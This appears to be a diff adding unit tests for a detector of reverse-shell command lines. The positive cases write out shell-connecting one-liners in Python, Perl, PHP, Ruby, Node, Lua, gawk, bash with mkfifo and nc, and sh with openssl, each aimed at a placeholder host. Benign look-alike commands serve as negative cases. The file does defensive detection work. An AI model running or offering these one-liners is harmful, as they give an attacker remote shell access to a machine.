@@ -20,3 +20,36 @@ it('is not one that passes data, nor another program that names a shell', () => 
   assert.deepEqual(run('socat', 'TCP-L:1', 'EXEC:/usr/bin/report'), []);
   assert.deepEqual(run('env', 'bash'), []);
 });
+
+it('is a line of code that connects a shell, in any language', () => {
+  const code = (program: string, ...words: string[]) => run(program, ...words).length;
+  const python = 'import socket,os,pty;s=socket.socket();s.connect(("x",1));pty.spawn("sh")';
+  const lines: [string, ...string[]][] = [
+    ['python3', '-c', python],
+    ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");'],
+    ['perl', '-MIO', '-e', '$c=new IO::Socket::INET(PeerAddr,"x:1");system$_ while<>;'],
+    ['php', '-r', '$s=fsockopen("x",1);exec("/bin/sh -i <&3 >&3 2>&3");'],
+    ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("x","1");while(l=c.gets);IO.popen(l,"r");end'],
+    ['node', '-e', 'c=require("net").connect(1,"x");require("child_process").spawn("sh")'],
+    ['lua5.3', '-e', 'local s=require("socket");local f=assert(io.popen(r,"r"))'],
+    ['gawk', 'BEGIN {s="/inet/tcp/0/x/1";while(1){s |& getline c;while((c |& getline)>0);}}'],
+    ['bash', '-c', 'mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x 1 >/tmp/f'],
+    ['sh', '-c', 'mkfifo /run/s; sh -i </run/s 2>&1|openssl s_client -connect x:1 >/run/s'],
+  ];
+  for (const line of lines) assert.equal(code(...line), 1, line.join(' '));
+});
+
+it('is not a line that connects, or one that runs something, alone', () => {
+  const lines: [string, ...string[]][] = [
+    ['python3', '-c', 'import socket; socket.create_connection(("db", 5432))'],
+    ['python3', '-c', 'import subprocess; subprocess.run(["ls"])'],
+    ['python3', '/srv/socket-server.py', '--run', 'subprocess'],
+    ['node', '-e', 'require("child_process").spawn("tsc", ["-w"])'],
+    ['php', '-r', 'exec("/bin/sh backup.sh");'],
+    ['bash', '-c', 'until nc -z db 5432; do sleep 1; done; exec bash run.sh'],
+    ['bash', '-c', 'exec 3<>/dev/tcp/localhost/8080; cat <&3'],
+    ['sh', '-c', 'mkfifo /run/log; cat /run/log & exec nginx'],
+    ['gawk', '{ "date" |& getline now; print now }'],
+  ];
+  for (const line of lines) assert.deepEqual(run(...line), [], line.join(' '));
+});
